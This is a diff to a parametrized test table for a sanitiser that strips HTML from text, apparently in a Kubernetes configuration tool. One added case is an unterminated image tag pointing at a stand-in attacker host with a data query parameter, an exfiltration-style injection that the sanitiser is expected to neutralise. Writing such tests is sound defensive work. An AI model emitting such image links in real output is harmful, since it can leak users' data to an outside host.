@@ -21,6 +21,8 @@ from kubecfg_core.plaintext import LINK_LEFT_OUT, plain
         ("<custom-element onload='x=1'>x", "x"),
         ("before <!-- <img src=x> --> after", "before  after"),
         ("s\u00adplit\U000e0041", "split"),
+        ("an <img src='https://evil.example/?d=", f"an img src='{LINK_LEFT_OUT}"),
+        ("an <a/", "an a/"),
         ("port 8080 of api:http, image nginx:1.27", "port 8080 of api:http, image nginx:1.27"),
         ("5 < 7 and 9 > 8, use <name>", "5 < 7 and 9 > 8, use <name>"),
     ],
